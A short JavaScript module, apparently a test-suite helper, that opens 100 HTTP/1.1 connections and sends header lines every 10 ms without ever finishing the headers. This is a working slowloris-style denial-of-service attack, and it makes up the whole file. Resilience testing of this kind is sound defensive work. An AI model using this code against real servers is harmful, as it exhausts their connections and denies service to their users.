import { HEAD, useConnection } from "../support/http1.mjs";

const SOCKETS = 100;
const LINE_MS = 10;

/** Headers that do not end, a line at a time, on many connections of HTTP/1.1. */
export function connectAndAttack(address) {
  const attack = (socket) => {
    socket.write(HEAD);
    const timer = setInterval(() => socket.write("x-more: x\r\n"), LINE_MS);
    socket.once("close", () => clearInterval(timer));
  };
  return Promise.all(Array.from({ length: SOCKETS }, () => useConnection(address, attack)));
}
